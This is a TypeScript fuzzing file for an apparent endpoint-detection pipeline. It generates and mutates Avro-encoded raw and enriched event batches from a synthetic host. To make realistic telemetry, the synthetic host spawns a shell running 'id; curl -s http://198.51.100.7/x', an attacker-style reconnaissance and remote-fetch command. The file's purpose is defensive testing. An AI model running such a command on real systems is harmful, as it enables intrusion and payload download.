import { createEnricherPipeline } from '@ringfence/enricher';
import { catalogue, eventKinds } from '@ringfence/fields';
import { consumerRecords, createSyntheticHost } from '@ringfence/synthetic';
import {
  EventView,
  FRAME_BYTES,
  frame,
  isKnownSchema,
  RawBatchReader,
  SchemaError,
  writerSchemas,
} from '@ringfence/wire';
import { AvroGrammar, type AvroSchema } from '../lib/avro.ts';
import { mutate } from '../lib/mutate.ts';
import type { Random } from '../lib/random.ts';
import { type FuzzTarget, outcomeOf } from '../lib/target.ts';

type BatchName = 'RawBatch' | 'EventBatch';

const SCHEMA_CODES = ['ERR_SCHEMA_FRAME', 'ERR_SCHEMA_UNKNOWN', 'ERR_SCHEMA_MALFORMED', 'ERR_SCHEMA_VALUE'];

/** Returns a batch of a host in which a few things happen, and the enriched batch of it. */
function genuineBatches(): Readonly<Record<BatchName, Buffer>> {
  const host = createSyntheticHost();
  const shell = host.spawn(host.init, '/bin/sh', ['sh', '-c', 'id; curl -s http://198.51.100.7/x']);
  host.exit(shell);
  host.tick();
  const raw = host.batch();
  const pipeline = createEnricherPipeline({ enrolment: { keyFor: () => host.key.publicKey }, key: null });
  const { outputs } = pipeline.handle(consumerRecords(host.hostId, [raw]));
  return { RawBatch: raw, EventBatch: Buffer.from(outputs[0]?.value ?? []) };
}

const SCHEMAS = new Map(writerSchemas().map(({ name, schema }) => [name as string, JSON.parse(schema) as AvroSchema]));

/** The first unknown fingerprint loads the released schemas, which is no cost of that input. */
const warmUp = (): void => void isKnownSchema('0'.repeat(16));

/** Returns a batch: a genuine one with changes, or one by the schema, in some cases with changes. */
function batchBy(random: Random, name: BatchName, genuine: Buffer): Buffer {
  if (random.once(2)) return mutate(genuine, random);
  const written = Buffer.concat([frame(name), new AvroGrammar(random).value(SCHEMAS.get(name) as AvroSchema)]);
  return random.once(3)
    ? Buffer.concat([written.subarray(0, FRAME_BYTES), mutate(written.subarray(FRAME_BYTES), random)])
    : written;
}

function readRaw(reader: RawBatchReader, input: Buffer): void {
  reader.open(input);
  while (reader.next());
  reader.keyId();
}

/** Reads what the detector may read of each event. */
function readEvents(view: EventView, input: Buffer): void {
  view.open(input);
  while (view.next()) {
    const kind = eventKinds.names[view.cursor.kind] ?? '';
    for (const { kinds, get } of catalogue.fields) if (kinds === undefined || kinds.includes(kind)) get(view);
    if (view.id === '') throw new Error('an event without an id');
  }
}

export const rawBatch: FuzzTarget = {
  name: 'raw-batch',
  description: 'RawBatch records of ringfence.raw, as the enricher reads them in place',
  shortRuns: 1500,
  outcomes: ['accepted', ...SCHEMA_CODES],
  memoryMax: 8 << 20,
  open() {
    const { RawBatch } = genuineBatches();
    const reader = new RawBatchReader();
    return {
      warmUp,
      generate: (random) => batchBy(random, 'RawBatch', RawBatch),
      run: (input) => outcomeOf(() => readRaw(reader, input), SchemaError),
      finish: () => readRaw(reader, RawBatch),
    };
  },
};

export const eventBatch: FuzzTarget = {
  name: 'event-batch',
  description: 'EventBatch records of ringfence.events, with every field that rules can name',
  shortRuns: 600,
  outcomes: ['accepted', ...SCHEMA_CODES],
  memoryMax: 8 << 20,
  open() {
    const { EventBatch } = genuineBatches();
    const view = new EventView();
    return {
      warmUp,
      generate: (random) => batchBy(random, 'EventBatch', EventBatch),
      run: (input) => outcomeOf(() => readEvents(view, input), SchemaError),
      finish: () => readEvents(view, EventBatch),
    };
  },
};
